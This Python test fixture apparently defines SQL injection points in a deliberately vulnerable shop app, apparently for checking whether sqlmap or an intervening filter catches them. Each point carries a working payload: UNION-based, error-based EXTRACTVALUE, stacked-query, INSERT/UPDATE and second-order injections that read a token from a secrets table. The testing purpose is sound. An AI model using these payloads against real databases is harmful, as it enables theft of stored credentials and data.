"""Where the shop can be attacked: each way in which a request's value comes into a statement."""

from dataclasses import dataclass, field

SECRET = "kwTokenOfAnotherTable4711"


@dataclass(frozen=True)
class Point:
    """One injection point."""

    name: str
    path: str
    # The parameter that is attacked.
    parameter: str
    # An honest request.
    query: dict = field(default_factory=dict)
    form: dict = field(default_factory=dict)
    body: dict = field(default_factory=dict)
    # What a person would send to read the secret. The shop's answer shows it, if nobody is in between.
    attack: str = ""
    # Where the outcome is seen, if not in the answer.
    shown_at: str = ""
    # What sqlmap is told besides, to find its way on the bare server.
    options: tuple = ()


def error(value: str = "(SELECT token FROM secrets LIMIT 1)") -> str:
    return f"EXTRACTVALUE(1,CONCAT(0x7e,{value}))"


UNION = "UNION ALL SELECT NULL,CONCAT(0x7e,token,0x7e),NULL FROM secrets-- -"

POINTS = [
    Point("integer", "/product", "id", query={"id": "1"}, attack=f"-1 {UNION}"),
    Point("string", "/category", "name", query={"name": "tools"}, attack=f"x' {UNION}"),
    Point("like", "/search", "q", query={"q": "saw"}, attack=f"x%' AND {error()} AND '%'='"),
    Point("order-by", "/sorted", "by", query={"by": "price"}, attack=error()),
    Point("limit", "/page", "limit", query={"limit": "2"}, attack="1;SELECT id,token,NULL FROM secrets#"),
    Point(
        "insert",
        "/comment",
        "text",
        form={"product": "1", "author": "ann", "text": "good"},
        attack="x'),(2,(SELECT token FROM secrets LIMIT 1),'y')-- -",
        shown_at="/comments?product=2",
    ),
    Point(
        "update",
        "/nickname",
        "nickname",
        form={"user": "ann", "nickname": "annie"},
        attack="x', nickname=(SELECT token FROM secrets LIMIT 1) WHERE name='ann'-- -",
    ),
    Point(
        "login",
        "/login",
        "name",
        form={"name": "ann", "password": "correct horse"},
        attack="x' UNION ALL SELECT NULL,CONCAT(0x7e,token) FROM secrets-- -",
    ),
    Point(
        "json",
        "/filter",
        "category",
        body={"category": "tools", "price_max": "100"},
        attack=f"x') {UNION}",
    ),
    Point(
        "second-order",
        "/register",
        "name",
        form={"name": "ann"},
        attack=f"x' {UNION}",
        shown_at="/mine",
    ),
    Point(
        "stacked", "/stacked", "name", query={"name": "saw"}, attack="x';SELECT id,token,NULL FROM secrets-- -"
    ),
    Point(
        "protected", "/customer", "phone", query={"phone": "+34 600 000 001"}, attack=f"x' {UNION}"
    ),
]
